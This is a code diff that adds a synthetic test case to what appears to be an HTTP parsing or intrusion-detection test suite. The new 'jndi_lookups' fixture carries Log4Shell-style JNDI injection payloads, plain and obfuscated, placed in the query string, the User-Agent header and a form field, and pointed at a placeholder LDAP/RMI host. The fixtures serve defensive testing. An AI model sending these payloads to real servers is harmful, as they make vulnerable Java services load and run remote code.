@@ -92,6 +92,10 @@ def synthetic():
         "digest_and_obs_fold": encode([
             (TO_SERVER, b"GET /x HTTP/1.1\r\nAuthorization: Digest username=\"u\", realm=\"r\"\r\n"
                         b"X-Folded: a\r\n b\r\nbad line\r\n\r\n")]),
+        "jndi_lookups": encode([
+            (TO_SERVER, b"POST /login?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fh%2Fa%7D HTTP/1.1\r\n"
+                        b"User-Agent: ${${::-j}${::-n}di:rmi://h/a}\r\nContent-Length: 44\r\n\r\n"
+                        b"uname=%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa%7D&p=x")]),
         "upgrade_then_other_protocol": encode([
             (TO_SERVER, b"GET /ws HTTP/1.1\r\nUpgrade: websocket\r\n\r\n"),
             (TO_CLIENT, b"HTTP/1.1 101 Switching Protocols\r\n\r\n\x81\x05hello")]),
